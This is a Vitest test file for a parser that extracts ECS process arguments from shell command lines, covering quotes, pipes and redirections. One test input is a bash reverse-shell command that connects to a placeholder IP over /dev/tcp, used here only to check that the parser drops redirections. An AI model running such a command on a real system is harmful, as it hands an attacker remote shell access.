import { describe, expect, it } from 'vitest';
import { commandArgs } from './ecs';

describe('commandArgs (ECS process.args from a command line)', () => {
  it('keeps the words of the first simple command, quotes removed', () => {
    expect(commandArgs(`grep -r 'a b' "/etc" | wc -l`)).toEqual(['grep', '-r', 'a b', '/etc']);
  });

  it('leaves redirections out: operator, file descriptor and target', () => {
    expect(commandArgs('bash -i >& /dev/tcp/203.0.113.66/4444 0>&1')).toEqual(['bash', '-i']);
    expect(commandArgs('find / -name x 2>/dev/null')).toEqual(['find', '/', '-name', 'x']);
    expect(commandArgs('sort <in.txt -u >> out.txt')).toEqual(['sort', '-u']);
    expect(commandArgs('cat <<< "text" -n')).toEqual(['cat', '-n']);
    expect(commandArgs('echo a>b c')).toEqual(['echo', 'a', 'c']);
  });

  it('keeps quoted angle brackets as text', () => {
    expect(commandArgs(`echo '>' "a<b"`)).toEqual(['echo', '>', 'a<b']);
  });
});
